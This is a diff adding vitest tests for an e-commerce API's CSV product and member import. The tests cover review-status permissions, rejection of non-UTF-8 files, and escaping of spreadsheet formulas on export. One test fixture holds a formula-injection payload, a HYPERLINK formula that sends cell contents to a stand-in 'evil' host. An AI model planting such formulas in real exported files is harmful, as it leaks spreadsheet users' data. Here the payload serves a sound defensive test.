@@ -1,4 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parse } from 'csv-parse/sync';
+import { entities } from '../../generated/entities';
 import { dialects, startServer, type TestServer } from './helpers';
 
 /** CSV imports of members and products: the schemas' rules per row, a report of refusals, all or nothing. */
@@ -87,5 +89,94 @@ describe.each(dialects)('CSV import on %s', (dialect) => {
     expect((await s.api('GET', `/brand/${product.brandId}`, undefined, { token })).data.productCount).toBe(
       brandBefore + 3,
     );
+  });
+  it("keeps a seller's import out of the platform's review: verifyStatus only platform staff write", async () => {
+    const shop = (await s.api('GET', '/shop/list', undefined, { token: seller })).data.list[0].id;
+    const header = 'name,subTitle,description,productCategoryId,verifyStatus,publishStatus,productSn,shopId';
+    const category = (await s.api('GET', '/product/list', undefined, { token, query: { pageSize: 1 } })).data.list[0]
+      .productCategoryId;
+    const bySeller = await post(
+      '/product/import',
+      `${header}\nReview me,s,d,${category},1,1,SN-REV-1,${shop}\n`,
+      seller,
+    );
+    expect(bySeller, JSON.stringify(bySeller)).toMatchObject({ code: 200, data: { imported: 1 } });
+    const byStaff = await post('/product/import', `${header}\nReviewed,s,d,${category},1,1,SN-REV-2,${shop}\n`);
+    expect(byStaff, JSON.stringify(byStaff)).toMatchObject({ code: 200, data: { imported: 1 } });
+    const find = async (sn: string) =>
+      (await s.api('GET', '/product/list', undefined, { token, query: { productSn: sn } })).data.list[0];
+    // The seller's product awaits review (the default), still published as the seller asked; staff's is verified.
+    expect(await find('SN-REV-1')).toMatchObject({ verifyStatus: 0, publishStatus: 1 });
+    expect(await find('SN-REV-2')).toMatchObject({ verifyStatus: 1, publishStatus: 1 });
+  });
+  it('refuses a file that is not UTF-8, naming the row and column, and stores nothing', async () => {
+    const shop = (await s.api('GET', '/shop/list', undefined, { token: seller })).data.list[0].id;
+    const before = await total('/member/list');
+    const latin1 = Buffer.concat([
+      Buffer.from(`username,nickname,country,shopId\nutf.ok,Zoë,US,${shop}\nutf.bad,Zo`),
+      Buffer.from([0xeb]), // "ë" in Latin-1: not UTF-8
+      Buffer.from(`,US,${shop}\n`),
+    ]);
+    const res = await (
+      await fetch(`${s.base}/member/import`, {
+        method: 'POST',
+        headers: { authorization: `Bearer ${token}`, 'content-type': 'text/csv' },
+        body: latin1,
+      })
+    ).json();
+    expect(res).toMatchObject({
+      code: 404,
+      message: 'Validation Failed: 1 of 2 rows refused, nothing imported',
+      data: { imported: 0, refused: [{ row: 2, errors: { nickname: expect.stringMatching(/not UTF-8/) } }] },
+    });
+    expect(await total('/member/list')).toBe(before);
+  });
+
+  it('exports text that a spreadsheet would run as a formula with a leading quote, and imports it back as it was', async () => {
+    const category = (await s.api('GET', '/product/list', undefined, { token, query: { pageSize: 1 } })).data.list[0]
+      .productCategoryId;
+    const shop = (await s.api('GET', '/shop/list', undefined, { token })).data.list[0].id;
+    const evil = '=HYPERLINK(""http://evil/?""&A1,""x"")'; // CSV-quoted: =HYPERLINK("http://evil/?"&A1,"x")
+    const csv = [
+      'name,subTitle,description,note,keywords,productCategoryId,shopId,sort,productSn',
+      `"${evil}",@SUM(1),"-2+3","'=kept",+1 555,${category},${shop},-5,SN-FORMULA-1`,
+    ].join('\n');
+    expect(await post('/product/import', csv)).toMatchObject({ code: 200, data: { imported: 1 } });
+    const stored = (await s.api('GET', '/product/list', undefined, { token, query: { productSn: 'SN-FORMULA-1' } }))
+      .data.list[0];
+    // An import takes one guard quote off ("'=kept" is how an export writes "=kept").
+    expect(stored).toMatchObject({
+      name: '=HYPERLINK("http://evil/?"&A1,"x")',
+      subTitle: '@SUM(1)',
+      description: '-2+3',
+      note: '=kept',
+      keywords: '+1 555',
+      sort: -5,
+    });
+    const exported = await (
+      await fetch(`${s.base}/product/export?productSn=SN-FORMULA-1&lang=en`, {
+        headers: { authorization: `Bearer ${token}` },
+      })
+    ).text();
+    const [header, row] = parse(exported, { bom: true }) as string[][];
+    const cell = (field: string) =>
+      row[header.indexOf(entities.product.fields.find((f) => f.name === field)!.label.en)];
+    expect(cell('name')).toBe(`'=HYPERLINK("http://evil/?"&A1,"x")`);
+    expect([cell('subTitle'), cell('description'), cell('note'), cell('keywords')]).toEqual([
+      "'@SUM(1)",
+      "'-2+3",
+      "'=kept",
+      "'+1 555",
+    ]);
+    expect(cell('sort')).toBe('-5'); // a number stays a number
+    // The exported file imports back unchanged.
+    expect(await post('/product/import', exported.replace('SN-FORMULA-1', 'SN-FORMULA-2'))).toMatchObject({
+      code: 200,
+      data: { imported: 1 },
+    });
+    const again = (await s.api('GET', '/product/list', undefined, { token, query: { productSn: 'SN-FORMULA-2' } })).data
+      .list[0];
+    for (const f of ['name', 'subTitle', 'description', 'note', 'keywords', 'sort'])
+      expect(again[f], f).toEqual(stored[f]);
   });
 });
